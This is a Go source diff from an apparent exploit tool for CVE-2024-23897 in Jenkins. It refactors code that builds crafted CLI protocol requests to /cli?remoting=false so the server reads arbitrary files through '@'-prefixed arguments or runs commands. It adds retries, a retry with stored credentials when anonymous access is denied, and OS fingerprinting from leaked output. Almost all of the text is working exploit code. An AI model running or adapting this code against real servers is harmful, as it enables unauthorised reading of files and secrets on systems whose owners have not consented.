@@ -2,11 +2,13 @@ package scanner
 
 import (
 	"bytes"
+	"context"
 	"fmt"
 	"github.com/google/uuid"
 	"github.com/projectdiscovery/retryablehttp-go"
 	"github.com/wjlin0/CVE-2024-23897/pkg/input"
 	"github.com/wjlin0/CVE-2024-23897/pkg/output"
+	"github.com/wjlin0/CVE-2024-23897/pkg/protocol"
 	"io"
 	"strings"
 	"sync"
@@ -15,7 +17,31 @@ import (
 
 var u, _ = uuid.NewRandom()
 
-func (s *Scanner) Exploit(target *input.Target, Mode output.Mode, args string, command string) (result *output.ResultEvent) {
+func (s *Scanner) Exploit(ctx context.Context, target *input.Target, Mode output.Mode, args string, command string) (result *output.ResultEvent) {
+	strategy := StrategyFor(target)
+	result, _ = s.exploit(ctx, target, strategy, Mode, args, command)
+	// 匿名用户没有权限时使用凭据重试
+	if authorization := s.authorizationFor(target); authorization != "" && isDenied(result) && ctx.Err() == nil {
+		if authResult, _ := s.exploit(ctx, target, strategy.authenticated(authorization), Mode, args, command); authResult != nil {
+			authResult.Verdict = VerdictAuthConfirmed
+			result = authResult
+		}
+	}
+	return
+}
+
+// exploit runs the exchange with the strategy until it answers with the cli protocol, the error
+// is the one of the last attempt
+func (s *Scanner) exploit(ctx context.Context, target *input.Target, strategy Strategy, Mode output.Mode, args string, command string) (result *output.ResultEvent, err error) {
+	for attempt := 0; attempt < strategy.attempts() && ctx.Err() == nil; attempt++ {
+		if result, err = s.exchange(ctx, target, strategy, Mode, args, command); err == nil {
+			return
+		}
+	}
+	return
+}
+
+func (s *Scanner) exchange(ctx context.Context, target *input.Target, strategy Strategy, Mode output.Mode, args string, command string) (result *output.ResultEvent, exchangeErr error) {
 	uid := u.String()
 	urlpath := fmt.Sprintf("%s/cli?remoting=false", target.ToString())
 	var wg sync.WaitGroup
@@ -23,45 +49,57 @@ func (s *Scanner) Exploit(target *input.Target, Mode output.Mode, args string, c
 
 	go func() {
 		defer wg.Done()
-		time.Sleep(1000 * time.Millisecond) // 确保 download 请求先于 upload 请求
-		request, _ := retryablehttp.NewRequest("POST", urlpath, bytes.NewBuffer(parseRequestData(Mode, command, args)))
+		// 确保 download 请求先于 upload 请求
+		select {
+		case <-time.After(strategy.uploadDelay()):
+		case <-ctx.Done():
+			return
+		}
+		request, _ := retryablehttp.NewRequestWithContext(ctx, "POST", urlpath, bytes.NewBuffer(parseRequestData(Mode, command, args)))
 		request.Header.Add("Session", uid)
 		request.Header.Add("Side", "upload")
-		_, _ = s.Do(request)
+		strategy.apply(request)
+		_, _ = s.do(request, strategy)
 	}()
 
 	go func() {
 		defer wg.Done()
-		request, _ := retryablehttp.NewRequest("POST", urlpath, nil)
+		request, _ := retryablehttp.NewRequestWithContext(ctx, "POST", urlpath, nil)
 		request.Header.Add("Session", uid)
 		request.Header.Add("Side", "download")
-		resp, err := s.Do(request)
+		strategy.apply(request)
+		resp, err := s.do(request, strategy)
 		if err != nil {
+			exchangeErr = err
 			return
 		}
 		defer resp.Body.Close()
 		body, err := io.ReadAll(resp.Body)
 		if err != nil {
+			exchangeErr = err
 			return
 		}
-		if len(body) > 7 && bytes.HasPrefix(body[1:len(body)-1], []byte{0x00, 0x00}) && bytes.HasSuffix(body[1:len(body)-1], []byte{0x00, 0x00, 0x00, 0x04, 0x04, 0x00, 0x00, 0x00}) {
-
-			result = &output.ResultEvent{
-				Port:    target.Port,
-				Host:    target.Host,
-				URL:     target.ToString(),
-				Command: command,
-				Args:    args,
-				Mode:    Mode,
-			}
-			data, err := parseResponseData(Mode, command, body[1:len(body)-1])
-			if err != nil {
-				return
-			}
-
-			result.Response = string(data)
-
+		if !protocol.IsResponse(body) {
+			exchangeErr = ErrNoCLIResponse
+			return
+		}
+		result = &output.ResultEvent{
+			SchemaVersion: output.SchemaVersion,
+			Port:          target.Port,
+			Host:          target.Host,
+			URL:           target.ToString(),
+			Command:       command,
+			Args:          args,
+			Mode:          Mode,
+			// 第二轮扫描的结果标记上一轮的分类
+			SecondPass: target.PreviousClass,
 		}
+		data, err := parseResponseData(Mode, command, body[1:len(body)-1])
+		if err != nil {
+			return
+		}
+		result.Response = string(data)
+		s.os.set(target, OSFromLeak(result.Response), true)
 	}()
 
 	wg.Wait()
@@ -69,102 +107,20 @@ func (s *Scanner) Exploit(target *input.Target, Mode output.Mode, args string, c
 	return
 }
 
-//func parseResponseData(data []byte) ([]byte, error) {
-//	var datas []byte
-//	if len(data) < 7 {
-//		return nil, fmt.Errorf("invalid length: %d", len(data))
-//	}
-//	for len(data) >= 7 {
-//		if string(data[:7]) == "\x00\x00\x00\x04\x04\x00\x00" {
-//			break
-//		}
-//
-//		data = data[2:]
-//		lengthBytes := data[:2]
-//
-//		// 将 lengthBytes 转换为 10 进制
-//		length := binary.BigEndian.Uint16(lengthBytes)
-//		if int(length)+3 > len(data) {
-//			return nil, fmt.Errorf("invalid length: exceeds available data")
-//		}
-//
-//		datas = append(datas, data[3:3+length]...)
-//		data = data[3+length:]
-//	}
-//	return datas, nil
-//}
-
 func parseRequestData(Mode output.Mode, command string, args string) []byte {
-	//dataBytes := []byte{
-	//	0x00, 0x00, 0x00, 0x06, 0x00, 0x00, 0x04, 0x68, 0x65, 0x6c, 0x70,
-	//}
-
-	dataBytes := []byte{}
-
-	commandBytes := []byte{0x00, 0x00}
-	commandLength := len(command)
-	commandBytes = append(commandBytes, []byte{byte((commandLength + 2) >> 8), byte((commandLength + 2) & 0xff)}...)
-	commandBytes = append(commandBytes, 0x00)
-	commandBytes = append(commandBytes, []byte{byte(commandLength >> 8), byte(commandLength & 0xff)}...)
-	commandBytes = append(commandBytes, []byte(command)...)
-
-	argsBytes := []byte{}
+	var argss []string
 	if command == "help" && Mode == output.ModeReadFile {
-		argsBytes = append(argsBytes, 0x00, 0x00)
-		argsLength := len("1")
-		argsBytes = append(argsBytes, []byte{byte((argsLength + 2) >> 8), byte((argsLength + 2) & 0xff)}...)
-		argsBytes = append(argsBytes, 0x00)
-		argsBytes = append(argsBytes, []byte{byte(argsLength >> 8), byte(argsLength & 0xff)}...)
-		argsBytes = append(argsBytes, []byte("1")...)
+		argss = append(argss, "1")
 	}
 	if args != "" {
 		if Mode == output.ModeExec {
-			argss := strings.Split(args, " ")
-			for _, arg := range argss {
-				argsBytes = append(argsBytes, 0x00, 0x00)
-				argsLength := len(arg)
-				argsBytes = append(argsBytes, []byte{byte((argsLength + 2) >> 8), byte((argsLength + 2) & 0xff)}...)
-				argsBytes = append(argsBytes, 0x00)
-				argsBytes = append(argsBytes, []byte{byte(argsLength >> 8), byte(argsLength & 0xff)}...)
-				argsBytes = append(argsBytes, []byte(arg)...)
-			}
+			argss = append(argss, strings.Split(args, " ")...)
 		} else {
-			argsBytes = append(argsBytes, 0x00, 0x00)
 			if Mode == output.ModeReadFile && !strings.HasPrefix(args, "@") {
 				args = fmt.Sprintf("@%s", args)
 			}
-			argsLength := len(args)
-			argsBytes = append(argsBytes, []byte{byte((argsLength + 2) >> 8), byte((argsLength + 2) & 0xff)}...)
-			argsBytes = append(argsBytes, 0x00)
-			argsBytes = append(argsBytes, []byte{byte(argsLength >> 8), byte(argsLength & 0xff)}...)
-			argsBytes = append(argsBytes, []byte(args)...)
+			argss = append(argss, args)
 		}
-
 	}
-
-	encodeStr := "UTF-8"
-	encodeBytes := []byte{}
-	encodeBytes = append(encodeBytes, 0x00, 0x00)
-	encodeLength := len(encodeStr)
-	encodeBytes = append(encodeBytes, []byte{byte((encodeLength + 2) >> 8), byte((encodeLength + 2) & 0xff)}...)
-	encodeBytes = append(encodeBytes, 0x01) //  编码为 01
-	encodeBytes = append(encodeBytes, []byte{byte(encodeLength >> 8), byte(encodeLength & 0xff)}...)
-	encodeBytes = append(encodeBytes, []byte(encodeStr)...)
-
-	encodeStr2 := "en_US"
-	encodeBytes2 := []byte{}
-	encodeBytes2 = append(encodeBytes2, 0x00, 0x00)
-	encodeLength2 := len(encodeStr2)
-	encodeBytes2 = append(encodeBytes2, []byte{byte((encodeLength2 + 2) >> 8), byte((encodeLength2 + 2) & 0xff)}...)
-	encodeBytes2 = append(encodeBytes2, 0x01) // 01
-	encodeBytes2 = append(encodeBytes2, []byte{byte(encodeLength2 >> 8), byte(encodeLength2 & 0xff)}...)
-	encodeBytes2 = append(encodeBytes2, []byte(encodeStr2)...)
-
-	dataBytes = append(dataBytes, commandBytes...)
-	dataBytes = append(dataBytes, argsBytes...)
-	dataBytes = append(dataBytes, encodeBytes...)
-	//dataBytes = append(dataBytes, encodeBytes2...)
-	dataBytes = append(dataBytes, 0x00, 0x00, 0x00, 0x00, 0x03)
-	//dataBytes = append(dataBytes, 0x00, 0x00, 0x00, 0x05, 0x02, 0x00, 0x03, 0x47, 0x42, 0x4b, 0x00, 0x00, 0x00, 0x07, 0x01, 0x00, 0x05, 0x7a, 0x68, 0x5f, 0x43, 0x4e, 0x00, 0x00, 0x00, 0x00, 0x03)
-	return dataBytes
+	return protocol.EncodeRequest(command, argss...)
 }